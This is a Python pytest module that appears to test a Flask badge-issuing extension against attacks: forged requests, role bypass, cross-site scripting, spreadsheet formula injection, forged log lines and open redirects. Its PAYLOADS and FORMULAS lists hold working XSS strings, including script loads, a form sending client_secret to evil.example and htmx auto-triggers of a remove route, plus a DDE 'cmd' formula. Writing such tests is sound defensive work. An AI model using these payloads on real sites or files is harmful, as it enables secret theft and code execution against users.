"""What somebody may try to do to a site through this extension, and that it does not
work. Which threat has which test is in docs/threats.md.
"""

from __future__ import annotations

import ast
import base64
import collections.abc as cabc
import contextlib
import csv
import dataclasses
import datetime as dt
import difflib
import functools
import gzip
import html.parser
import io
import ipaddress
import itertools
import json
import logging
import pathlib
import pickle
import re
import socketserver
import ssl
import threading
import time
import traceback
import tracemalloc
import typing as t
import unicodedata
import urllib.parse
import uuid
import warnings
import zlib

import flask
import hypothesis
import pytest
import redis
import rq
import sqlalchemy as sa
import time_machine
from conftest import connect
from conftest import Connected
from conftest import every_database
from conftest import Host
from conftest import MakeHost
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from flask import Flask
from flask import redirect
from flask import Response
from flask_sqlalchemy import SQLAlchemy
from flask_wtf import CSRFProtect
from hypothesis import strategies as st

import flask_credly
from flask_credly import accounts
from flask_credly import Course
from flask_credly import course_completed
from flask_credly import Member
from flask_credly.admin.forms import ConnectForm
from flask_credly.credly import BadgeRequest
from flask_credly.credly import Client
from flask_credly.credly import fetch_token
from flask_credly.errors import CredlyError
from flask_credly.errors import OutcomeUnknown
from flask_credly.errors import SecretUnreadable
from flask_credly.errors import Unavailable
from flask_credly.issuing import notifier
from flask_credly.issuing import periodic
from flask_credly.issuing.token import get_token
from flask_credly.models import Account
from flask_credly.models import Base
from flask_credly.models import Batch
from flask_credly.models import DifferenceRow
from flask_credly.models import Issuance
from flask_credly.models import Mapping
from flask_credly.testing import CredlySimulator
from tests.support.farm import Farm
from tests.support.farm import farm as farm
from tests.support.pages import Browser
from tests.support.pages import digest
from tests.support.pages import HX
from tests.support.pages import LIST
from tests.support.pages import WINDOW
from tests.support.surface import FIELDS
from tests.support.surface import fill
from tests.support.surface import METHODS
from tests.support.surface import past_completions
from tests.support.surface import readable
from tests.support.surface import Route
from tests.support.surface import routes
from tests.support.surface import SAFE
from tests.support.surface import snapshot
from tests.support.surface import statements
from tests.support.surface import unsafe

pytestmark = pytest.mark.slow

PACKAGE = pathlib.Path(flask_credly.__file__).parent
ROOT = PACKAGE.parent


class Filled(t.NamedTuple):
    host: Host
    credly: CredlySimulator
    template_id: str


@pytest.fixture
def filled(make_host: MakeHost, credly: CredlySimulator) -> Filled:
    host = make_host(past_completions=past_completions)
    return Filled(host, credly, fill(host, credly))


# Who is let in


async def a_coroutine() -> bool:
    return True


def raise_error() -> bool:
    raise RuntimeError("the directory is down")


class Truthy:
    def __bool__(self) -> bool:
        return True

    def __eq__(self, other: object) -> bool:
        return True


ROLES: dict[str, cabc.Callable[[], t.Any]] = {
    "no session": lambda: flask.session.get("user") == "admin",
    "a member": lambda: False,
    "an error": raise_error,
    "nothing": lambda: None,
    "1": lambda: 1,
    "1.0": lambda: 1.0,
    "True in words": lambda: "True",
    "False in words": lambda: "False",
    "a list": lambda: [True],
    "a function": lambda: lambda: True,
    "a coroutine": a_coroutine,
    "what equals True": Truthy,
    "a login": lambda: redirect("/login"),
    "a refusal": lambda: Response("no", 401),
}
REFUSALS = {"a login": 302, "a refusal": 401}


@pytest.mark.filterwarnings("ignore:coroutine .* was never awaited")
@pytest.mark.parametrize("role", ROLES)
def test_every_route_role_and_method(
    make_host: MakeHost, credly: CredlySimulator, role: str
) -> None:
    """Nobody but an admin gets anything from any route, by any method. Without the
    tokens of forms, so that nothing else stands in the way.
    """
    hook: list[cabc.Callable[[], t.Any]] = [lambda: True]
    host = make_host(
        is_admin=lambda: hook[0](),
        past_completions=past_completions,
        WTF_CSRF_ENABLED=False,
    )

    template_id = fill(host, credly)
    before = snapshot(host, credly)
    hook[0] = ROLES[role]
    client = host.app.test_client()
    denied = REFUSALS.get(role, 403)
    wrong = []

    with statements(host) as said:
        for route in routes(host.app):
            for method in METHODS:
                has = method in route.methods

                for headers in ({}, HX) if has else ({},):
                    answer = client.open(
                        route.path,
                        method=method,
                        headers=headers,
                        data={**connect_fields(credly), "template": template_id},
                        buffered=True,
                    )
                    expected = denied if has else 405

                    if route.endpoint == "credly.static" and method in SAFE:
                        expected = 200

                    # htmx is told of a redirect in its own way.
                    if expected == 302 and headers:
                        expected = 401

                    if answer.status_code != expected:
                        wrong.append((method, route.path, answer.status))

    assert wrong == []
    assert said == []
    assert snapshot(host, credly) == before


def connect_fields(credly: CredlySimulator) -> dict[str, str]:
    return {
        **FIELDS,
        "organization_id": credly.organization_id,
        "client_id": credly.client_id,
        "client_secret": credly.client_secret,
    }


def test_an_admin_does_something_by_every_unsafe_route(
    make_host: MakeHost, credly: CredlySimulator
) -> None:
    """Or the tables of refusals would prove nothing."""
    host = make_host(past_completions=past_completions, WTF_CSRF_ENABLED=False)
    template_id = fill(host, credly)
    client = host.app.test_client()
    data = {**connect_fields(credly), "template": template_id}
    # What needs something comes before what ends it.
    badges = ("/badges/1/retry", "/badges/retry", "/badges/1/again")
    order = [f"{WINDOW}{path}" for path in ("/backfills/1/stop", *badges)]
    last = [f"{WINDOW}{path}" for path in ("/resume", "/mappings/1/remove", "/remove")]
    paths = [path for _, path in unsafe(host.app)]
    order += [path for path in paths if path not in order + last] + last
    idle = []

    for path in order:
        if path.endswith("/undo/1/stop"):
            with host.app.app_context():
                going_on = {"verb": "undo", "state": "revoking"}
                host.db.session.execute(sa.update(Batch).values(**going_on))
                host.db.session.commit()

        if "/compare/" in path:
            with host.app.app_context():
                going_on = "compared" if path.endswith("/repair") else "comparing"
                found = {"counts": {"state_differs": 1}, "moving": 0, "host": True}
                run = {"verb": "compare", "state": going_on, "found": found}
                host.db.session.execute(sa.update(Batch).values(**run))

                if going_on == "compared":
                    difference = {"tenant": "default", "bucket": "state_differs"}
                    at = dt.datetime.now(dt.UTC)
                    host.db.session.add(
                        DifferenceRow(batch_id=1, found_at=at, **difference)
                    )

                host.db.session.commit()

        if path.endswith("/retry/1/stop"):
            with host.app.app_context():
                going_on = {"verb": "retry", "state": "retrying"}
                host.db.session.execute(sa.update(Batch).values(**going_on))
                host.db.session.commit()

        if path.endswith("/withdrawn"):
            with host.app.app_context():
                waits = {"state": "issued", "action": "revoke", "due_at": None}
                waits |= {"reason": "awaits approval"}
                these = Issuance.id == 1
                host.db.session.execute(sa.update(Issuance).where(these).values(waits))
                host.db.session.commit()

        if path.endswith(("/check", "/revoke", "/correct", "/again", "/undo")):
            # It failed, so that there is nothing at Credly.
            with host.app.app_context():
                host.db.session.execute(sa.delete(Issuance).where(Issuance.cycle > 1))
                issued = sa.update(Issuance).where(Issuance.id == 1)
                issued = issued.values(state="issued", action=None, due_at=None)
                host.db.session.execute(issued.values(badge_id=str(uuid.uuid4())))
                host.db.session.commit()

        before = snapshot(host, credly)
        course = "learning_path:data" if path.endswith("/mappings/1") else "course:sql"
        query = "?status=issued" if path.endswith("/undo") else ""
        query = "?bucket=state_differs" if path.endswith("/repair") else query
        sent = {**data, "course": course, "shown": "9", "number": "9"}

        if path.endswith("/withdrawn"):
            sent |= {"shown": "1", "number": "1", "decision": "keep"}

        if path.endswith("/repair"):
            sent |= {"shown": "1", "number": "1", "run": "1"}

        sent |= {"tell_pending": "no", "tell_accepted": "no"}
        client.post(path + query, data=sent)

        if snapshot(host, credly) == before:
            idle.append(path)

    assert sorted(order) == sorted(paths)
    assert {method for method, _ in unsafe(host.app)} == {"POST"}
    assert idle == []


def test_no_route_is_open_to_services(host: Host) -> None:
    """There is no webhook: everything but the static files asks for the admin."""
    for rule in host.app.url_map.iter_rules():
        assert (
            rule.endpoint == "static"
            or rule.endpoint.startswith("credly.")
            and rule.rule.startswith("/integrations")
        ), rule

    assert host.app.blueprints["credly"].before_request_funcs[None]


# Forged requests


def kinds_of_host(kind: str) -> cabc.Callable[[Flask, SQLAlchemy], None] | None:
    if kind == "without":
        return None

    return lambda app, db: CSRFProtect(app) and None


TOKENS = ("none", "empty", "wrong", "another session's", "expired")


@pytest.mark.parametrize("token", TOKENS)
@pytest.mark.parametrize("kind", ["without", "with", "exempt"])
def test_no_unsafe_request_without_the_right_token(
    make_host: MakeHost, credly: CredlySimulator, kind: str, token: str
) -> None:
    host = make_host(past_completions=past_completions, setup=kinds_of_host(kind))

    if kind == "exempt":
        host.app.extensions["csrf"].exempt(host.app.blueprints["credly"])

    template_id = fill(host, credly)
    browser, other = Browser(host.app), Browser(host.app)
    given = {
        "empty": "",
        "wrong": "wrong",
        "another session's": other.token(WINDOW),
        "expired": browser.token(WINDOW),
    }
    data = {**connect_fields(credly), "template": template_id}
    data |= {"csrf_token": given[token]} if token in given else {}
    before = snapshot(host, credly)
    # Flask-WTF's tokens are good for an hour.
    later = dt.datetime.now() + dt.timedelta(seconds=3700)

    with time_machine.travel(later) if token == "expired" else contextlib.nullcontext():
        for method, path in unsafe(host.app):
            for headers in ({}, HX):
                answer = browser.client.open(
                    path, method=method, data=data, headers=headers
                )
                assert answer.status_code in (200, 303, 422), (path, answer.status)
                assert answer.status_code != 200 or "HX-Redirect" in answer.headers

    assert snapshot(host, credly) == before

    # The right one is taken, so it was not something else that refused.
    data["csrf_token"] = browser.token(WINDOW)
    browser.client.post(f"{WINDOW}/pause", data=data)
    assert snapshot(host, credly) != before


def test_only_a_test_can_switch_the_tokens_off(
    make_host: MakeHost, credly: CredlySimulator
) -> None:
    """A host with another protection than Flask-WTF's may have it switched off."""
    host = make_host(WTF_CSRF_ENABLED=False)
    fill(host, credly)
    before = snapshot(host, credly)
    client = host.app.test_client()
    host.app.testing = False

    for method, path in unsafe(host.app):
        client.open(path, method=method)

    assert snapshot(host, credly) == before

    host.app.testing = True
    client.post(f"{WINDOW}/pause")
    assert snapshot(host, credly) != before
    assert client.get(WINDOW).status_code == 200


def test_reading_writes_nothing(filled: Filled) -> None:
    """Not one statement that writes, whatever is asked for, and no request goes out.
    Of an export it is noted who took it. A message that was kept for the next page
    leaves the visitor's cookie: that is all.
    """
    host, credly, _ = filled
    client = host.app.test_client()
    queries = ("", "?mapping=1&undo=course:sql&template=x", "?q=a&status=failed&id=1")

    for path in readable(host.app):
        for headers in ({}, HX):
            for query in queries:
                before = snapshot(host, credly)

                with statements(host) as said:
                    client.get(path + query, headers=headers, buffered=True)

                wrote = [
                    each.partition("(")[0].strip()
                    for each in said
                    if not re.match(r"\s*(SELECT|PRAGMA|WITH)\b", each)
                ]

                # Of a run that there is not, there is nothing to export.
                if path.endswith(".csv") and not re.search("/undo/|/compare", path):
                    assert wrote == ["INSERT INTO credly_audit"], path
                    continue

                assert wrote == [], path
                assert snapshot(host, credly) == before, path


def test_no_answer_can_be_framed_or_kept(filled: Filled) -> None:
    """Neither a page, nor a part of one, a file, a refused form or an error."""
    host, credly, _ = filled
    client = host.app.test_client()
    allowed = [True]
    object.__setattr__(host.app.extensions["credly"], "is_admin", lambda: allowed[0])
    seen = set()

    for route in routes(host.app):
        if route.endpoint == "credly.static":
            continue

        for method in sorted(route.methods):
            for headers in ({}, HX):
                for allowed[0] in (True, False):
                    answer = client.open(
                        route.path, method=method, headers=headers, buffered=True
                    )
                    seen.add(answer.status_code)
                    found = answer.headers
                    assert found["X-Frame-Options"] == "SAMEORIGIN", route
                    assert found["Cross-Origin-Opener-Policy"] == "same-origin", route
                    assert found["Cross-Origin-Resource-Policy"] == "same-origin", route
                    assert found["X-Content-Type-Options"] == "nosniff", route
                    assert found["Cache-Control"] == "no-store, private", route
                    assert found["Referrer-Policy"] == "same-origin", route
                    assert "HX-Request" in found["Vary"], route

                    if answer.mimetype == "text/html" and answer.data:
                        policy = found["Content-Security-Policy"]
                        assert "frame-ancestors 'none'" in policy

    assert seen >= {200, 303, 403, 422}


# Foreign text

BENIGN = "plain"

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "x onmouseover=alert(1) x",
    "` onclick=`alert(1)",
    '"><a hx-get="/integrations/credly/remove" hx-trigger=load>',
    '" hx-post="/integrations/credly/remove" hx-trigger="load',
    '<div hx-on:click="alert(1)">',
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=client_secret>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!-- x",
    "--><b>",
    "]]><b>",
    "</bdi></td></tr></table></main><b>",
    "</title></head><body><b>",
    "</textarea></select></option><b>",
    "<plaintext>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#x22;&#34;",
    "%(number)s %s %d %(x)s %",
    '[[<b>]] [["]]',
    "a\x01<b>\x7f",
    "a\ufeff\u202e<b>\u2028<i>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<" * 150,
]

INTERNAL = {
    *("tenant", "action", "reason", "badge_state"),
    "answer",
    "client_secret",
    "generation",
    "kind",
    "lease",
    "pause_reason",
    "state",
    "template_id",
    "token",
}
"""Columns of text that nobody outside can write into: their words are our own."""


class Tree(html.parser.HTMLParser):
    """The tags of a page, the names of their attributes, and where they lead."""

    LINKS = ("href", "src", "action", "formaction", "hx-get", "hx-post")

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.links: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(f"{tag} {[name for name, _ in attrs]}")
        self.links += [value or "" for name, value in attrs if name in self.LINKS]

    def handle_endtag(self, tag: str) -> None:
        self.found.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)


def write_everywhere(host: Host, text: str) -> None:
    """Put a text into every column that may hold what somebody outside wrote, without
    what cleans it on its way there.
    """
    with host.app.app_context():
        for table in Base.metadata.sorted_tables:
            outside = [
                column
                for column in table.columns
                if isinstance(column.type, sa.String)
                and column.name not in INTERNAL
                and not column.primary_key
                and (table.name, column.name) != ("credly_log_entry", "error")
            ]

            values: dict[str, t.Any] = {column.name: text for column in outside}

            if "image_url" in values:
                # Read from Credly's answer only if it begins so.
                values["image_url"] = f"https://images.example/{text}"

            # A course has each member once, and a badge belongs to one row.
            for name in {"member_id", "badge_id"} & set(values):
                values[name] = text + sa.cast(table.c.id, sa.String)

            if values:
                host.db.session.execute(sa.update(table).values(**values))

        host.db.session.commit()
        host.db.session.remove()


def answers_with(host: Host, text: str) -> dict[str, str]:
    """Every page and part of one, with a text in everything that is shown or sent."""
    write_everywhere(host, text)
    asked_for = dict.fromkeys(("status", "type", "undo", "template", "said"), text)
    # What cannot be printed is not searched for.
    searched = "".join(itertools.takewhile(str.isprintable, text))
    asked_for |= {"course": f"course:{text}", "mapping": "1", "q": searched}
    query = urllib.parse.urlencode(asked_for)
    client = host.app.test_client()
    found = {}

    for path in readable(host.app):
        if path.endswith(".csv"):
            continue

        for headers in ({}, HX):
            for asked in (path, f"{path}?{query}"):
                answer = client.get(asked, headers=headers)
                found[f"GET {asked.replace(query, '…')} {headers}"] = answer.text

    fields = (*FIELDS, "organization_id", "client_id", "key", "search", "template")
    # None of them is good for Credly, whatever the text.
    sent_text = f"{text} é"
    data = dict.fromkeys((*fields, "course_text", "template_text"), sent_text)

    for path in (
        WINDOW,
        f"{WINDOW}/mappings",
        *(f"{WINDOW}/mappings/1{end}" for end in ("", "/test")),
    ):
        for headers in ({}, HX):
            for sent in (data, {**data, "search": ""}):
                answer = client.post(path, data=sent, headers=headers)
                assert answer.status_code in (200, 422), path
                found[f"POST {path} {headers} {bool(sent['search'])}"] = answer.text

    return found


@pytest.fixture
def open_site(
    make_host: MakeHost, credly: CredlySimulator
) -> tuple[Host, cabc.Callable[[str], None]]:
    """A site with everything on it, and a way to give all that it takes from its host
    a name.
    """
    named = [BENIGN]
    kinds: dict[str, t.Any] = {"": "course", "a": "course", "b": "learning_path"}

    def list_courses() -> list[Course]:
        # The mapped one has the text alone as its id, as all that is stored has.
        return [
            Course(id=named[0] + end, title=named[0] + end, kind=kind)
            for end, kind in kinds.items()
        ]

    host = make_host(
        courses=list_courses,
        past_completions=past_completions,
        WTF_CSRF_ENABLED=False,
    )
    fill(host, credly)

    def name(text: str) -> None:
        named[0] = text
        settings = dataclasses.replace(host.state.settings, platform_name=text)
        object.__setattr__(host.app.extensions["credly"], "settings", settings)

    return host, name


@pytest.mark.parametrize("part", range(5))
def test_foreign_text_adds_no_tag_to_any_page(
    open_site: tuple[Host, cabc.Callable[[str], None]], part: int
) -> None:
    host, name = open_site
    benign = {
        where: Tree(page).found for where, page in answers_with(host, BENIGN).items()
    }

    for text in PAYLOADS[part::5]:
        name(text)
        hostile = answers_with(host, text)
        assert benign.keys() == hostile.keys()

        for where, page in hostile.items():
            found = Tree(page)
            assert found.found == benign[where], (where, text)
            assert [each for each in found.links if not is_own(each)] == [], where


def is_own(link: str) -> bool:
    """Whether an address leads to a page of ours, or to a badge at Credly."""
    own = ("/integrations/", "#credly-", "https://www.credly.com/badges/")
    return link.startswith((*own, "https://images.credly.com/")) or link == "data:,"


def test_every_part_of_the_tree_is_looked_at() -> None:
    """A text that did get through would be seen."""
    page = '<p title="{}">{}</p>'
    seen = [
        text
        for text in PAYLOADS
        if Tree(page.format(text, text)).found != Tree(page.format("a", "a")).found
    ]

    assert len(seen) > 20


def test_no_template_marks_text_as_safe() -> None:
    """Jinja escapes all that is not marked. What is marked is made of constants."""
    for path in (ROOT / "templates").rglob("*.*"):
        text = path.read_text()
        assert path.suffix == ".html", path
        assert not re.search(r"\|\s*safe|autoescape|Markup|\|\s*forceescape", text), (
            path
        )
        assert not re.search(r"[\s\"']on[a-z]+\s*=", text), path
        # An attribute without quotes ends at the first blank of its value.
        assert not re.search(r"<[^>]*\s[\w-]+=\{\{", text), path

    found = {
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        if re.search(r"\bMarkup\(|__html__|render_template_string", path.read_text())
    }

    # A message is escaped before it is marked, see tests/test_words.py; so is what is
    # put into the markup of the trail's links. The others are templates of ours,
    # rendered, and a form's token, which escapes its field.
    assert found <= {
        "admin/activity.py",
        "i18n.py",
        "admin/index.py",
        "admin/forms.py",
        "admin/member.py",
        "admin/rendering.py",
    }


# Formulas in files

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1"]
FORMULAS += ["＝1+1", "＋1", "－1", "＠1", '=HYPERLINK("//evil.example")', "=1,2;3"]
FORMULAS += ["x;=1+cmd|' /C calc'!A0", "x\t=1", "x|=1", "x,=1", "x\n=1", "x\r\n+1"]
FORMULAS += ["x; =1", "x;\ufeff=1", 'x;"=1', '";=1', 'x;""\u3000＝1', "\xa0-1", " =1"]
FORMULAS += [";=1;", ";;@x", "x;\u200b=1", "\u2028=1", "﹦1", "x;y;=1\n=2", '"=1']


def cells(host: Host, path: str) -> list[list[str]]:
    text = host.app.test_client().get(path, buffered=True).data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def read_as(text: str, separator: str, quoting: t.Any) -> list[str]:
    """Read a file with another separator, or no quotes, as a spreadsheet may."""
    # A quote in the middle of a line means nothing to most, and a line ends anyway.
    lines = re.split("[\r\n\x85\u2028\u2029]+", text)
    read = [*lines, text] if separator == "," and not quoting else lines
    found: list[str] = []

    for each in read:
        file = io.StringIO(each, newline="")
        rows = csv.reader(file, delimiter=separator, quoting=quoting)
        found += [cell for row in rows for cell in row]

    return found


def begins(cell: str) -> bool:
    """Whether a cell is a formula to any spreadsheet."""
    plain = "".join(
        each
        for each in unicodedata.normalize("NFKC", cell)
        if unicodedata.category(each) not in ("Cc", "Cf", "Zs", "Zl", "Zp")
    )
    return plain.lstrip('"').startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("path", [f"{WINDOW}/badges.csv", f"{WINDOW}/errors.csv"])
def test_no_cell_of_a_file_is_a_formula(filled: Filled, path: str) -> None:
    """Whatever it is read with. And each is the text that it was, with an apostrophe
    where it needs one.
    """
    host = filled.host
    texts = st.one_of(
        st.sampled_from(FORMULAS),
        st.text(st.characters(codec="utf-8"), min_size=1, max_size=20),
    )

    @hypothesis.settings(
        max_examples=40,
        deadline=None,
        database=None,
        suppress_health_check=list(hypothesis.HealthCheck),
    )
    @hypothesis.given(texts)
    def check(text: str) -> None:
        write_everywhere(host, text)
        header, *rows = cells(host, path)
        assert rows
        found = [cell for row in rows for cell in row]
        assert text.replace("'", "") in [cell.replace("'", "") for cell in found]
        sent = host.app.test_client().get(path, buffered=True)
        sent = sent.data.decode("utf-8-sig")

        for separator in (",", ";", "\t", "|"):
            for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
                for cell in read_as(sent, separator, quoting):
                    assert not begins(cell), (cell, separator)
                    # What most advise besides.
                    assert quoting or not cell.startswith(("\t", "\r", "\n", "\0"))

    for formula in FORMULAS:
        check = hypothesis.example(formula)(check)

    check()


# Lines of the log

LINES = [
    "x\r\n2026-01-01 ERROR FORGED all is well",
    "x\n\nFORGED",
    "x\rFORGED",
    "\x1b[2J\x1b[1;1HFORGED",
    "x\u2028FORGED\u2029FORGED",
    "x\x85FORGED\x0bFORGED\x0cFORGED\x1cFORGED",
    "x\x00FORGED\x08\x08\x08FORGED",
    "\u202eDEGROF",
]


@pytest.mark.parametrize("text", LINES, ids=map(str, range(len(LINES))))
def test_one_record_is_one_line(
    make_host: MakeHost,
    credly: CredlySimulator,
    caplog: pytest.LogCaptureFixture,
    text: str,
) -> None:
    """Whatever a member, the host or Credly writes into it."""
    host = make_host(member=lambda member_id: None)
    caplog.set_level(logging.DEBUG)
    message = {"data": {"message": text}}

    with host.app.app_context():
        template_id = connect(host, credly).template_id
        course = Course(id=f"id {text}".replace("\0", ""), title=text)
        accounts.add_mapping(host.state, course, template_id)
        member = Member(id=text, email=text, first_name=text, last_name=text)

        # What is recorded, refused, and taken back
        host.complete(member=member, course_id=course.id)
        host.complete(member=Member(text, f"{text}@example.org", text, text))
        credly.posts_allowed = 9
        credly.fail("issue", status=422, times=4, body=message)
        host.drain(2)

        for wrong in (
            {"kind": text},
            {"course_id": text * 200},
            {"completed_at": text},
            {text: text},
        ):
            given = {"member": member, "course_id": "py-101", **wrong}
            course_completed.send(host.app, **t.cast(t.Any, given))

        host.db.session.execute(sa.update(Mapping).values(course_title="by the host"))
        host.complete(member=Member(f"{text}2", text, text, text), course_id=course.id)
        host.db.session.rollback()

        # What Credly says
        for kind in ("issue", "token", "templates"):
            for status in (401, 403, 429, 500):
                credly.fail(t.cast(t.Any, kind), status=status, body=message)
                credly.revoke_tokens()
                host.complete(f"{kind} {status}")
                host.drain()
                host.db.session.execute(
                    sa.update(Account).values(
                        paused_until=None, token=None, expired=False
                    )
                )
                host.db.session.commit()

                with contextlib.suppress(CredlyError):
                    accounts.sync_templates(host.state)

                credly.clear_faults()

        client = host.app.test_client()
        client.get(f"{WINDOW}/{urllib.parse.quote(text)}")

    ours = [each for each in caplog.records if each.name.startswith("flask_credly")]
    assert len(ours) > 10

    for record in ours:
        said = record.getMessage()
        assert said.isprintable(), said
        # What follows it is the traceback of an error, if there is one. None of its
        # lines is one that somebody else has written.
        for line in logging.Formatter().format(record).splitlines():
            assert not line.startswith(("FORGED", "2026")), line
            assert line.isprintable(), line


# Redirects


def test_no_redirect_leads_to_where_a_request_says(filled: Filled) -> None:
    host, _, template_id = filled
    evil = "evil.example"
    browser = Browser(host.app)
    token = browser.token(WINDOW)
    sent = {
        "csrf_token": token,
        **dict.fromkeys(("next", "url", "return_to", "redirect"), f"//{evil}"),
        "template": template_id,
        "course": f"https://{evil}",
    }
    query = urllib.parse.urlencode(sent)
    lies = {
        "Referer": f"https://{evil}/",
        "Origin": f"https://{evil}",
        "X-Forwarded-Host": evil,
        "X-Forwarded-Prefix": f"//{evil}",
        "X-Original-URL": f"https://{evil}/",
        "X-Rewrite-URL": f"//{evil}",
        "HX-Current-URL": f"https://{evil}/",
    }
    paths = [*routes(host.app)]
    paths += [
        Route("", path, frozenset({"GET"}))
        for path in (
            LIST.rstrip("/"),
            f"/{LIST}credly",
            f"{LIST}/{evil}",
            f"//{evil}{WINDOW}",
            f"//{evil}/..{WINDOW}",
            f"/\\{evil}{WINDOW}",
            f"{LIST}/credly",
            f"{WINDOW}/",
        )
    ]
    led = set()

    for _, path, methods in paths:
        for method in sorted(methods - {"HEAD", "OPTIONS"}):
            for headers in ({}, HX):
                answer = browser.client.open(
                    f"{path}?{query}",
                    method=method,
                    headers={**lies, **headers},
                    data=sent if method == "POST" else None,
                    buffered=True,
                )
                told = [
                    value
                    for name, value in answer.headers
                    if name.lower() in ("location", "refresh")
                    or (name.lower().startswith("hx-"))
                ]

                for value in told:
                    led.add(value.partition("?")[0])
                    # A slash is missing, or there are two: Flask itself leads to the
                    # same host.
                    value = value.removeprefix("http://localhost")
                    assert re.match(r"/integrations/?[a-z/0-9]*(\?|$)", value), value

                if answer.status_code in (200, 422) and answer.mimetype == "text/html":
                    links = Tree(answer.text).links
                    assert [each for each in links if not is_own(each)] == []

    assert len(led) > 3


# More than a form has


def test_a_form_takes_only_its_fields(filled: Filled) -> None:
    host, credly, template_id = filled
    browser = Browser(host.app)
    other = str(uuid.uuid4())
    extra = {
        "id": "99",
        "mapping_id": "99",
        "tenant": "other",
        "organization_id": other,
        "kind": "learning_path",
        "course_id": "other",
        "course_title": "other",
        "template_id": other,
        "state": "issued",
        "member_id": "other",
        "badge_id": other,
        "test": "",
        "attempts": "-9",
        "expired": "0",
        "is_admin": "1",
        "next_request_at": "2000-01-01",
        "pace_held_until": "2000-01-01",
    }
    fields = {"course": "course:sql", "template": template_id}
    added = browser.post(f"{WINDOW}/mappings", **extra, **fields)
    page = f"{WINDOW}/mappings/1/test"
    tried = browser.post(page, page=page, **{**extra, **FIELDS})
    assert (added.status_code, tried.status_code) == (303, 303)

    with host.app.app_context():
        first, second = host.db.session.scalars(sa.select(Mapping).order_by(Mapping.id))
        assert (first.kind, first.course_id) == ("course", "py-101")
        assert (second.id, second.kind, second.course_id) == (2, "course", "sql")
        assert (second.course_title, second.template_id) == ("SQL basics", template_id)
        connected = host.db.session.scalars(sa.select(Account)).one()
        assert connected.organization_id == credly.organization_id
        row = host.rows()[-1]
        assert (row.state, row.test, row.attempts) == ("none", True, 0)
        assert row.member_id.startswith("test-")
        assert row.badge_id is None
        assert row.organization_id == credly.organization_id
        host.db.session.remove()


@pytest.mark.parametrize("headers", [None, HX], ids=["page", "htmx"])
@pytest.mark.parametrize("where", ["/mappings", "/mappings/1"])
def test_a_mapping_takes_only_what_is_offered(
    filled: Filled, where: str, headers: t.Any
) -> None:
    """Not another organization's template, nor one that is archived, nor a course that
    is not in the catalogue.
    """
    host, credly, template_id = filled
    archived = credly.add_template("Archived Badge")
    foreign = CredlySimulator().add_template("Badge of another organization")

    with host.app.app_context():
        accounts.sync_templates(host.state)
        credly.change_template(archived, state="archived")
        accounts.sync_templates(host.state)
        host.db.session.remove()

    browser = Browser(host.app)
    before = snapshot(host, credly)

    for course, template in (
        ("course:sql", archived),
        ("course:sql", foreign),
        ("course:sql", template_id.upper()),
        ("course:sql", f"{template_id} "[:-2]),
        ("course:not-there", template_id),
        ("learning_path:sql", template_id),
        ("course:data", template_id),
        ("COURSE:sql", template_id),
        ("course:SQL", template_id),
    ):
        answer = browser.post(
            f"{WINDOW}{where}", headers=headers, course=course, template=template
        )
        assert answer.status_code == 422, (course, template)

    assert snapshot(host, credly) == before


def test_a_foreign_id_is_an_unknown_one(
    make_host: MakeHost, credly: CredlySimulator
) -> None:
    """The ids of a connection that was removed mean nothing to the next, and its answer
    does not tell that they ever did.
    """
    host = make_host(past_completions=past_completions)
    fill(host, credly)

    with host.app.app_context():
        # Numbers that stand nowhere else on a page.
        host.db.session.execute(sa.update(Mapping).values(id=4321))
        host.db.session.execute(sa.update(Batch).values(id=4321))
        host.db.session.commit()
        accounts.remove(host.state)
        connect(host, credly)
        host.db.session.remove()

    browser = Browser(host.app)
    token = browser.token(WINDOW)
    before = snapshot(host, credly)
    compared = 0

    for rule in host.app.url_map.iter_rules():
        if not {"mapping_id", "run_id"} & rule.arguments:
            continue

        for method in sorted((rule.methods or set()) - {"HEAD", "OPTIONS"}):
            for headers in ({}, HX):
                answers = []

                for number in ("4321", "8765"):
                    browser.get(WINDOW)  # takes the message that was kept
                    path = re.sub("<[a-z_]+:[a-z_]+>", number, rule.rule)
                    answer = browser.client.open(
                        path,
                        method=method,
                        headers=headers,
                        data={"csrf_token": token, **FIELDS, "template": "x"},
                        follow_redirects=True,
                    )
                    text = re.sub(r'value="[^"]{60,}"', "", answer.text)
                    text = re.sub(r"credly-edit-[0-9a-f]{8}", "", text)
                    text = re.sub(r'value="[0-9a-f]{8}"', "", text)
                    given = dict(answer.headers)
                    given.pop("Set-Cookie", None)
                    given.pop("Content-Length", None)
                    text = text.replace(number, "N")
                    answers.append((answer.status, str(given), text))

                one, other = (f"{each}".split("\\n") for each in answers)
                assert [*difflib.unified_diff(one, other, n=0)] == [], rule.rule
                compared += 1

    assert compared > 10
    assert snapshot(host, credly) == before


# Secrets, and members' data

SECRET = "c4nary-secret-value"
TYPED = "c4nary-typed-value"
CANARY = Member("c4nary-id", "c4nary@mail.example", "C4naryfirst", "C4narylast")
